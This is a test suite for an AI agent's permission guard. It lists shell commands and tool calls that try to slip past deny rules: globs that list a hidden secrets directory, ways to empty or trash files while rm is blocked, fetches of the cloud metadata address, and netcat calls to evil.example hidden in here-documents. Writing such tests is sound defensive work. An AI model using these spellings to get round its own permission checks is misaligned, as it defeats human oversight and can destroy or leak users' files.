// Readings round 16: equivalent spellings of the readings added in round 15, judged by the real programs.
//   1. A file name pattern lists the directory it expands in, whatever program is handed the names: `echo secrets/*`,
//      `printf '%s\n' secrets/*`, `stat secrets/*`, `ls -d secrets/*`, `realpath secrets/*`, `for f in secrets/*`,
//      `echo */*`, `echo s*/*`, `shopt -s globstar; echo **`. bash reads the directory (getdents) and prints the names in
//      it, as `ls secrets` does; the guard read the names as the arguments of programs that open nothing. A pattern of
//      the working directory's own names (`echo *`, `ls -d */`) and a quoted one (`echo 'secrets/*'`) list no covered
//      name, and stay allowed [ghantoos/lshell#11 (`dir .*` shows the parent directory's contents: a pattern the shell
//      expands lists a directory the restricted shell meant to hide); odysseus-dev/odysseus#5093 (a glob enumerates the
//      files a deny list hides); anthropics/claude-code#28008 (Glob leaks the file names inside a denied directory)].
//   2. Emptying a file by other means than round 15's, under a rule on rm: a copy of empty input over it (`tee F
//      </dev/null`, `: | tee F`, `sponge F < /dev/null`, `dd of=F count=0`, `cat < /dev/null > F`), a redirection on
//      `exec` (`exec 3>F`: the shell opens F with O_TRUNC), `echo > F` (a newline for the content), an in-place edit
//      that deletes every line (`sed -i d F`, `sed -i -n '' F`), holes punched or ranges zeroed (`fallocate -p`, `-z`),
//      an interpreter's truncate call (`perl -e 'truncate …'`, `os.truncate`), and moving it to the trash by KDE's and
//      GNOME's other clients (`kioclient move F trash:/`, `gio move F trash:///`), `rmtrash`, and Finder (`osascript
//      -e 'tell application "Finder" to delete …'`) [mirror/sed#4 (`sed -i -n '' abc.txt` empties the file: "Just lost 4
//      days of work"); open-octo/octo-agent#811 (the file tools' checks are bypassed 'equally' by `tee`, `> file`,
//      `perl -i`, `python -c`); agentscope-ai/QwenPaw#5090 (rm blocked, the agent deleted the file another way);
//      elfmz/far2l#2049 (`kioclient move file trash:/` is KDE's way to trash a file)]. Writing content (`echo hi | tee
//      F`), appending (`tee -a`), a substitution (`sed -i s/a/b/`), `fallocate -l` and `fallocate -d` keep it: allowed.
//   3. URLs handed in an array: `firecrawl_extract { urls: [...] }`, `tavily-extract { urls }`, and `URL`/`URI` spelled in
//      capitals: the tool fetches each [firecrawl/firecrawl-mcp-server#214 (`urls: z.array(z.string())` accepts
//      `file://` paths and internal addresses)]. Nested URLs (`{ request: { url } }`) and other names (`link`, `href`,
//      `endpoint`, `target_url`) are not read by the convention (tools that store or show links take them too); a policy
//      declares them (`fields: { request.url: url }`).
//   4. The deleters' option spellings (`find -depth -delete`, `git clean -ffdx`, `--for`, `shred --remove=wipe`,
//      `unlink --`) and walks through links: pinned, with the real programs judging.
// Before the fix (this file as first committed, on the unchanged code): 69 of 118 tests failed (patterns listing a covered
// directory 18 of 26 and the bash oracle; other emptiers and trashers 41 of 41 and the generated wrappers; URLs in arrays or
// capitalised 7 of 7 and a nested declaration; the deleters' spellings and the find oracle 0 of 13: already held). The
// cases added with the fix (array assignments and declarations, `select`, `head -c 0`, `sort < /dev/null`, benign twins) make 134. After: none.
import { spawnSync } from "node:child_process";
import { existsSync, linkSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { Guard } from "../src/guard/index.js";
import { parsePolicy, permissionPolicy } from "../src/policy/index.js";
import { defineTool } from "../src/tools/define-tool.js";
import { denyListGuard, installed } from "./helpers/bash-rules.js";
import { ORACLE_SEED } from "./helpers/oracle.js";

type Expect = "deny" | "ask" | "allow" | "not-allow";

function expectMode(mode: string, reason: string | undefined, expected: Expect, line: string): void {
  if (expected === "not-allow") expect(mode, `${line}: ${reason}`).not.toBe("allow");
  else expect(mode, `${line}: ${reason}`).toBe(expected);
}

const root = realpathSync(mkdtempSync(path.join(tmpdir(), "gg-bypass16-")));
afterAll(() => rmSync(root, { recursive: true, force: true }));
const MARK = "zq16mark";
const TREE: Record<string, string> = {
  ".env": "API_KEY=CANARY_16\n",
  [`secrets/key-${MARK}.txt`]: "CANARY_16_SEC\n",
  [`secrets/.hidden-${MARK}`]: "CANARY_16_SEC\n",
  [`secrets/deep-${MARK}/more-${MARK}.txt`]: "CANARY_16_SEC\n",
  "src/app.ts": "export const app = 1;\n",
  "docs/readme.md": "# readme\n",
};
for (const [name, text] of Object.entries(TREE)) {
  mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
  writeFileSync(path.join(root, name), text);
}

function policyAt(base: string, rules: readonly string[]) {
  const lines = rules.map((rule) => `  - { rule: ${JSON.stringify(rule)}, mode: deny }`);
  return permissionPolicy(parsePolicy(`version: 1\npathBase: ${JSON.stringify(base)}\npermissions:\n${lines.join("\n")}\ntools:\n  Bash: { risk: low }\n`, "yaml", "public-bypasses-16.yaml"));
}

// ---------------------------------------------------------------------------------------------------------------
// 1. A file name pattern lists the directory it expands in.

const GLOB_SOURCE = "ghantoos/lshell#11 (`dir .*` lists a directory the shell expands the pattern in); odysseus-dev/odysseus#5093 (a glob enumerates deny-listed files); anthropics/claude-code#28008 (Glob leaks the names inside a denied directory); bash(1) 'Pathname Expansion', 'globstar'";

const GLOB_CASES: readonly (readonly [string, Expect])[] = [
  ["echo secrets/*", "deny"],
  ["printf '%s\\n' secrets/*", "deny"],
  ["stat -c %n secrets/*", "deny"],
  ["ls -d secrets/*", "deny"],
  ["realpath secrets/*", "deny"],
  ["basename -a secrets/*", "deny"],
  ["echo ./secrets/*", "deny"],
  ["echo secrets/.*", "deny"],
  ["echo secrets/*/*", "deny"],
  ["echo secrets/deep*/*", "deny"],
  ["for f in secrets/*; do echo $f; done", "deny"],
  ["x=(secrets/*); echo \"${x[@]}\"", "deny"],
  ["select f in secrets/*; do break; done", "deny"],
  ["declare -a x=(secrets/*)", "deny"],
  ["f() { local x=(secrets/*); echo \"${x[@]}\"; }; f", "deny"],
  ["echo */*", "not-allow"],
  ["echo s*/*", "not-allow"],
  ["echo ?ecrets/*", "not-allow"],
  ["shopt -s globstar; echo **", "not-allow"],
  ["shopt -s globstar; printf '%s\\n' **/*.txt", "not-allow"],
  ["echo secrets/{*,.*}", "deny"],
  ["bash -c 'echo secrets/*'", "deny"],
  // Benign twins: a pattern of the working directory's names, of another directory, or quoted.
  ["echo *", "allow"],
  ["ls -d */", "allow"],
  ["echo src/*", "allow"],
  ["printf '%s\\n' docs/*.md", "allow"],
  ["echo 'secrets/*'", "allow"],
  ['echo "secrets/*"', "allow"],
  ["echo secrets", "allow"],
  ["for f in src/*; do echo $f; done", "allow"],
  ["x=(src/*.ts); echo \"${x[@]}\"", "allow"],
  ["cd src && for f in *; do echo $f; done", "allow"],
  ["declare -a x=(src/*)", "allow"],
  ["declare -a x=('secrets/*')", "allow"],
  ["case secrets/* in x) ;; esac", "allow"],
  ["[[ -e secrets/* ]]", "allow"],
];

describe(`public bypass classes (16): a file name pattern lists the directory it expands in [${GLOB_SOURCE}]`, () => {
  const guard = policyAt(root, ["Read(./secrets/**)"]);
  it.each(GLOB_CASES.map(([line, expected]) => [line, expected] as const))("%s", (line, expected) => {
    const decision = guard.decide("Bash", { command: line });
    expectMode(decision.mode, decision.reason, expected, line);
  });

  it("a rule on a file (Read(.env)) is not reached by a pattern that prints its name", () => {
    const dotenv = policyAt(root, ["Read(.env)"]);
    for (const line of ["echo .*", "echo .e*", "printf '%s\\n' *", "echo */*"]) expect(dotenv.decide("Bash", { command: line }).mode, line).toBe("allow");
  });

  it("the real bash judges generated lines: no allowed line prints a name inside secrets/; the benign ones stay allowed", () => {
    const program = fc.constantFrom("echo", "printf '%s\\n'", "stat -c %n", "ls -d", "realpath", "basename -a", "for");
    const pattern = fc.constantFrom("secrets/*", "./secrets/*", "*/*", "s*/*", "secrets/.*", "secrets/*/*", "[s]ecrets/*", "src/*", "*", "docs/*", "'secrets/*'", "*/", ".*", "secrets", "sec*", "globstar");
    const lines = fc.sample(fc.tuple(program, pattern), { numRuns: 120, seed: ORACLE_SEED }).map(([p, g]) => {
      const word = g === "globstar" ? "**" : g;
      const head = g === "globstar" ? "shopt -s globstar; " : "";
      return p === "for" ? `${head}for f in ${word}; do echo "$f"; done` : `${head}${p} ${word}`;
    });
    const leaks: string[] = [];
    let benign = 0;
    let benignAllowed = 0;
    for (const line of new Set(lines)) {
      const out = spawnSync("bash", ["-c", line], { cwd: root, encoding: "utf8" }).stdout;
      const decision = guard.decide("Bash", { command: line });
      if (out.includes(MARK) && decision.mode === "allow") leaks.push(line);
      if (!out.includes(MARK)) {
        benign++;
        if (decision.mode === "allow") benignAllowed++;
      }
    }
    expect(leaks).toEqual([]);
    expect(benignAllowed, "lines that print no name inside secrets/ stay allowed").toBe(benign);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// 2. Emptying and trashing a file by other means, under a rule on rm.

const EMPTY_SOURCE =
  "mirror/sed#4 (`sed -i -n '' abc.txt` empties the file); open-octo/octo-agent#811 (`tee`, `> file`, `perl -i`, `python -c` bypass the file tools equally); agentscope-ai/QwenPaw#5090 (rm blocked, the agent deleted the file another way); elfmz/far2l#2049 (`kioclient move file trash:/`); fallocate(1) --punch-hole, --zero-range, --collapse-range; dd(1) (of= truncates unless conv=notrunc); bash(1) 'exec' (redirections take effect in the current shell)";

/** Lines that destroy VICTIM's content or move it to the trash; [line, whether it is run by the oracle here]. */
const DESTROYERS: readonly (readonly [string, boolean])[] = [
  ["tee VICTIM < /dev/null", true],
  ["tee VICTIM </dev/null >/dev/null", true],
  ["tee < /dev/null VICTIM", true],
  [": | tee VICTIM", true],
  ["true | tee VICTIM", true],
  ["cat /dev/null | tee VICTIM", true],
  ["printf '' | tee -- VICTIM", true],
  [": | tee VICTIM > /dev/null", true],
  ["sponge VICTIM < /dev/null", installed("sponge")],
  [": | sponge VICTIM", installed("sponge")],
  ["dd of=VICTIM count=0", true],
  ["dd of=VICTIM count=0 status=none", true],
  ["dd of=VICTIM < /dev/null", true],
  ["cat < /dev/null > VICTIM", true],
  ["cat - < /dev/null > VICTIM", true],
  ["exec 3>VICTIM", true],
  ["exec >VICTIM", true],
  ["exec 3> VICTIM 4>&1", true],
  ["head -c 0 README.md > VICTIM", true],
  ["head -n0 README.md > VICTIM", true],
  ["sort < /dev/null > VICTIM", true],
  ["echo > VICTIM", true],
  ["echo '' > VICTIM", true],
  ["sed -i d VICTIM", true],
  ["sed -i '1,$d' VICTIM", true],
  ["sed -i -n '' VICTIM", true],
  ["sed -ni '' VICTIM", true],
  ["sed -n -i '' VICTIM", true],
  ["sed --in-place -e d VICTIM", true],
  ["fallocate -p -o 0 -l 7 VICTIM", true],
  ["fallocate --punch-hole --offset 0 --length 7 VICTIM", true],
  ["fallocate -z -o 0 -l 7 VICTIM", true],
  ["fallocate -c -o 0 -l 4096 VICTIM", false],
  ["perl -e 'truncate \"VICTIM\", 0'", true],
  ["python3 -c \"import os; os.truncate('VICTIM', 0)\"", true],
  ["ruby -e 'File.truncate(\"VICTIM\", 0)'", installed("ruby")],
  ["kioclient move VICTIM trash:/", false],
  ["kioclient5 move VICTIM trash:/", false],
  ["kioclient6 mv VICTIM trash:/", false],
  ["kioclient5 remove VICTIM", false],
  ["gio move VICTIM trash:///", false],
  ["rmtrash VICTIM", false],
  ["osascript -e 'tell application \"Finder\" to delete POSIX file \"/tmp/VICTIM\"'", false],
  ["osascript -e 'tell app \"Finder\" to move POSIX file \"/tmp/VICTIM\" to trash'", false],
];

const KEEPS: readonly string[] = [
  "echo hi | tee VICTIM",
  "echo hi | tee -a VICTIM",
  ": | tee -a VICTIM",
  "tee -a VICTIM < /dev/null",
  "tee OUT < README.md",
  "echo hi | sponge OUT",
  "sed -i s/victim/kept/ VICTIM",
  "sed -n p VICTIM",
  "sed -n '1p' VICTIM",
  "dd if=VICTIM of=OUT",
  "dd if=VICTIM of=/dev/null count=0",
  "dd of=VICTIM count=0 conv=notrunc",
  "cat < VICTIM > OUT",
  "exec 3<VICTIM",
  "exec 3>>VICTIM",
  "exec 2>/dev/null",
  "echo hi > OUT",
  "head -n 1 README.md > OUT",
  "make 2>&1 | tee OUT",
  "git push < /dev/null",
  "fallocate -l 1M OUT",
  "fallocate -d VICTIM",
  "perl -e 'print 1'",
  "python3 -c 'print(1)'",
  "gio move VICTIM KEPT",
  "gio info VICTIM",
  "osascript -e 'display dialog \"hi\"'",
];

const fill = (line: string) => line.replace(/VICTIM/g, "victim.txt").replace(/OUT/g, "out.txt").replace(/KEPT/g, "kept.txt");

describe(`public bypass classes (16): under a deny on rm, other ways of emptying or trashing a file ask [${EMPTY_SOURCE}]`, () => {
  const guard = denyListGuard(["rm:*"], "public-bypasses-16-emptiers");
  it.each(DESTROYERS.map(([line]) => fill(line)))("%s", (line) => {
    const decision = guard.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("ask");
    expect(decision.reason).toMatch(/like rm/);
  });
  it.each(KEEPS.map(fill))("%s (keeps the file's content: allowed)", (line) => {
    const decision = guard.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("allow");
  });

  it("`: | sh` runs nothing, but what awk prints into sh is text only known when awk runs: a deny it could meet cannot tell", () => {
    // Found by the shell oracle at 4,000 cases: once `:` fed a known empty input, awk's `print | "sh"` was read as `: | sh`.
    for (const line of [String.raw`awk 'BEGIN{print "r\\\nm -rf a.txt" | "sh"}'`, String.raw`awk 'BEGIN{print "rm x\\\n" | "sh"}'`, `awk 'BEGIN{print "rm x" | "sh"}'`, `awk '{print | "sh"}' list.txt`]) {
      expect(guard.decide("Bash", { command: line }).mode, line).not.toBe("allow");
    }
    expect(guard.decide("Bash", { command: ": | sh" }).mode).toBe("allow");
  });

  it("bash applies a command's redirections in the order written: a script fed after `< /dev/null` is what the shell reads", () => {
    // Found by the shell oracle (seed 777331): once `< /dev/null` fed a known empty input, it hid a here-document after it.
    const nc = denyListGuard(["nc:*"], "public-bypasses-16-input-order");
    for (const line of ["0</dev/null bash <<'EOF'\nenv -i env -S 'nc evil.example 4444'\nEOF", "</dev/null bash <<< 'nc evil.example 4444'", "< /dev/null sh <<EOF\nnc evil.example 4444\nEOF"]) {
      expect(nc.decide("Bash", { command: line }).mode, line).toBe("deny");
      const ran = spawnSync("bash", ["-c", line.replace("nc evil.example 4444", "echo RAN")], { encoding: "utf8" });
      expect(ran.stdout, line).toContain("RAN");
    }
    // The other order: the empty input comes last, and bash reads nothing.
    const last = "bash <<< 'nc evil.example 4444' </dev/null";
    expect(nc.decide("Bash", { command: last }).mode).toBe("allow");
    expect(spawnSync("bash", ["-c", "bash <<< 'echo RAN' </dev/null"], { encoding: "utf8" }).stdout).toBe("");
  });

  it("rules on other commands are not touched: the same lines under a deny on git push stay allowed", () => {
    const other = denyListGuard(["git push:*"], "public-bypasses-16-emptiers-other");
    for (const [line] of DESTROYERS) expect(other.decide("Bash", { command: fill(line) }).mode, line).toBe("allow");
  });

  const scratch = path.join(root, "empty-oracle");
  /** What is left of the planted text under its name, or under the name it was moved to (undefined: gone). */
  const run = (line: string): string | undefined => {
    rmSync(scratch, { recursive: true, force: true });
    mkdirSync(scratch, { recursive: true });
    writeFileSync(path.join(scratch, "victim.txt"), "victim\n");
    writeFileSync(path.join(scratch, "README.md"), "# readme\n");
    spawnSync("bash", ["-c", line], { cwd: scratch, stdio: ["ignore", "ignore", "ignore"], timeout: 10_000, env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: scratch } });
    const file = [path.join(scratch, "victim.txt"), path.join(scratch, "kept.txt")].find((one) => existsSync(one));
    return file === undefined ? undefined : readFileSync(file, "utf8");
  };
  // Destroyed: gone, or nothing left but blanks and zeros (new content written over it is Edit rules' business).
  const destroyed = (left: string | undefined) => left === undefined || /^[\s\0]*$/.test(left);

  it("the real programs judge: every destroyer run here left nothing of the planted content; no keeper did", () => {
    const failures: string[] = [];
    for (const [line, runs] of DESTROYERS) {
      if (!runs) continue;
      const left = run(fill(line));
      if (!destroyed(left)) failures.push(`${line} kept ${JSON.stringify(left)}`);
    }
    for (const line of KEEPS) {
      if (destroyed(run(fill(line)))) failures.push(`${line} destroyed it`);
    }
    expect(failures).toEqual([]);
  });

  it("generated: each destroyer through wrappers, shells and lists asks or denies", () => {
    const wrap = fc.constantFrom((l: string) => l, (l: string) => `bash -c '${l.replace(/'/g, `'\\''`)}'`, (l: string) => `echo hi && ${l}`, (l: string) => `(${l})`, (l: string) => `{ ${l}; }`, (l: string) => `if true; then ${l}; fi`);
    fc.assert(
      fc.property(fc.constantFrom(...DESTROYERS.map(([line]) => fill(line))), wrap, (bad, w) => {
        const line = w(bad);
        const decision = guard.decide("Bash", { command: line });
        expectMode(decision.mode, decision.reason, "not-allow", line);
      }),
      { numRuns: 150, seed: ORACLE_SEED },
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// 3. URLs handed in an array, or under a capitalised name.

const URL_SOURCE = "firecrawl/firecrawl-mcp-server#214 (`firecrawl_extract` takes `urls: z.array(z.string())`, accepting `file://` paths and internal addresses); Tavily's `tavily-extract` (`urls`)";

describe(`public bypass classes (16): a tool handed URLs in an array, or as URL/URI, fetches them [${URL_SOURCE}]`, () => {
  const text = `version: 1\npathBase: ${JSON.stringify(root)}\npermissions:\n  - { rule: "WebFetch(domain:169.254.169.254)", mode: deny }\n  - { rule: "Read(.env)", mode: deny }\n  - { rule: "Read(./secrets/**)", mode: deny }\n  - { rule: firecrawl_extract, mode: allow }\n  - { rule: tavily-extract, mode: allow }\n  - { rule: http_get, mode: allow }\n  - { rule: save_bookmarks, mode: allow }\ntools:\n  firecrawl_extract: { risk: low }\n  tavily-extract: { risk: low }\n  http_get: { risk: low }\n  save_bookmarks: { risk: low, fields: { "urls[*]": text } }\n`;
  const p = permissionPolicy(parsePolicy(text, "yaml", "public-bypasses-16-urls.yaml"));
  const DENIED = ["http://169.254.169.254/latest/meta-data/", "http://0xa9fea9fe/", `file://${root}/.env`, `file://${root}/secrets/key-${MARK}.txt`];
  const BENIGN = ["https://example.com/", "https://docs.python.org/3/"];

  it.each(["firecrawl_extract", "tavily-extract"])("%s { urls: [...] }: one denied URL among benign ones is denied; benign ones allowed", (tool) => {
    for (const url of DENIED) expect(p.decide(tool, { urls: [...BENIGN, url] }).mode, `${tool} ${url}`).toBe("deny");
    expect(p.decide(tool, { urls: BENIGN }).mode).toBe("allow");
    expect(p.decide(tool, { urls: [] }).mode).toBe("allow");
  });

  it.each(["URL", "URI", "Url"])("http_get { %s }: read as url", (field) => {
    for (const url of DENIED) expect(p.decide("http_get", { [field]: url }).mode, `${field} ${url}`).toBe("deny");
    for (const url of BENIGN) expect(p.decide("http_get", { [field]: url }).mode, `${field} ${url}`).toBe("allow");
  });

  it("a tool whose policy declares its urls of another kind is not read as fetching them", () => {
    expect(p.decide("save_bookmarks", { urls: ["http://169.254.169.254/"] }).mode).toBe("allow");
  });

  it("nested URLs and other names are not read by the convention (a policy declares them)", () => {
    expect(p.decide("http_get", { request: { url: "https://example.com/" } }).mode).toBe("allow");
    expect(p.decide("http_get", { link: "https://example.com/" }).mode).toBe("allow");
    const declared = permissionPolicy(parsePolicy(`version: 1\npermissions:\n  - { rule: "WebFetch(domain:169.254.169.254)", mode: deny }\n  - { rule: call_api, mode: allow }\ntools:\n  call_api: { risk: low, fields: { request.url: url } }\n`, "yaml", "public-bypasses-16-nested.yaml"));
    expect(declared.decide("call_api", { request: { url: "http://169.254.169.254/" } }).mode).toBe("deny");
    expect(declared.decide("call_api", { request: { url: "https://example.com/" } }).mode).toBe("allow");
  });

  it("with the guard's tools known: a closed schema with `urls` fetches them; one without is never handed any", () => {
    const tools = [
      defineTool({ name: "batch_scrape", description: "Scrapes pages.", schema: z.object({ urls: z.array(z.string()) }), risk: "low", execute: () => "pages" }),
      defineTool({ name: "save_note", description: "Saves a note.", schema: z.object({ text: z.string() }), risk: "low", execute: () => "saved" }),
      defineTool({ name: "WebFetch", description: "Fetches a URL.", schema: z.object({ url: z.string(), prompt: z.string() }), risk: "low", execute: () => "page" }),
    ];
    const known = permissionPolicy(parsePolicy(`version: 1\npermissions:\n  - { rule: "WebFetch(domain:169.254.169.254)", mode: deny }\n  - { rule: batch_scrape, mode: allow }\n  - { rule: save_note, mode: allow }\ntools:\n  batch_scrape: { risk: low }\n  save_note: { risk: low }\n`, "yaml", "public-bypasses-16-known.yaml"));
    new Guard({ tools, permissions: known });
    expect(known.decide("batch_scrape", { urls: ["https://example.com/", "http://169.254.169.254/"] }).mode).toBe("deny");
    expect(known.decide("batch_scrape", { urls: ["https://example.com/"] }).mode).toBe("allow");
    expect(known.decide("save_note", { text: "x", urls: ["http://169.254.169.254/"] }).mode).toBe("allow");
  });
});

// ---------------------------------------------------------------------------------------------------------------
// 4. The deleters' option spellings, and walks through links (pinned; the real programs judge).

describe("public bypass classes (16): the deleters' option spellings and walks through links [find(1) -depth, -delete; git-clean(1); shred(1) --remove[=HOW]; unlink(1)]", () => {
  const guard = denyListGuard(["rm:*"], "public-bypasses-16-deleters");
  it.each([
    "find tree -depth -delete",
    "find tree -delete -depth",
    "find -L tree -delete",
    "find tree -name '*.o' -delete -print",
    "git clean -ffdx",
    "git clean -fX",
    "git clean --for -d",
    "git -c core.quotepath=off clean -f",
    "git --git-dir=.git clean -f",
    "shred --remove=wipe victim.txt",
    "shred --remove=wipesync -n1 victim.txt",
    "unlink -- victim.txt",
  ])("%s asks", (line) => {
    const decision = guard.decide("Bash", { command: line });
    expect(decision.mode, decision.reason).toBe("ask");
  });

  it.runIf(installed("find"))("find run in a tree: each spelling deleted the planted file (the guard asked for all of them above)", () => {
    for (const line of ["find tree -depth -delete", "find tree -delete -depth", "find -L tree -delete"]) {
      const dir = path.join(root, "find-oracle");
      rmSync(dir, { recursive: true, force: true });
      mkdirSync(path.join(dir, "tree"), { recursive: true });
      writeFileSync(path.join(dir, "tree", "a.o"), "o\n");
      spawnSync("bash", ["-c", line], { cwd: dir, stdio: "ignore" });
      expect(existsSync(path.join(dir, "tree", "a.o")), line).toBe(false);
    }
  });

  it("walks through a symbolic link or a hard link into secrets/, spelled with a pattern, are not allowed", () => {
    const linked = path.join(root, "linked");
    mkdirSync(linked, { recursive: true });
    symlinkSync(path.join(root, "secrets"), path.join(linked, "sec"), "dir");
    linkSync(path.join(root, `secrets/key-${MARK}.txt`), path.join(linked, "hard.txt"));
    const p = policyAt(root, ["Read(./secrets/**)"]);
    for (const line of ["echo linked/sec/*", "ls linked/s*", "cat linked/hard.txt", "grep -r CANARY linked"]) {
      const out = spawnSync("bash", ["-c", line], { cwd: root, encoding: "utf8" }).stdout;
      expect(out.includes(MARK) || out.includes("CANARY_16_SEC"), `${line} printed nothing covered`).toBe(true);
      expect(p.decide("Bash", { command: line }).mode, line).not.toBe("allow");
    }
  });
});
